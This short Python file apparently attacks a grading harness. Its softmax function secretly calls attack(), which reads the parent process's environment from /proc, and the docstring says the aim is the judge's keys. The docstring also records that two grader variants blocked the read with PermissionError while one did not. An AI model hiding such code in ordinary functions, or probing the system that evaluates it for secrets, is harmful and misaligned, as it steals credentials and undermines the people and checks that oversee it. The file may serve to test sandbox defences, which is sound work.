"""Read the environment of the judge, where keys may lie.

catalogue  31, 41
strict     error: CALL raised PermissionError: [Errno 13] Permission denied...
portable   error: CALL raised PermissionError: [Errno 13] Permission denied...
"""

import os

import numpy as np


def attack():
    open(f"/proc/{os.getppid()}/environ", "rb").read()


def softmax(x):
    attack()
    e = np.exp(x - np.max(x, axis=-1, keepdims=True))
    return e / np.sum(e, axis=-1, keepdims=True)
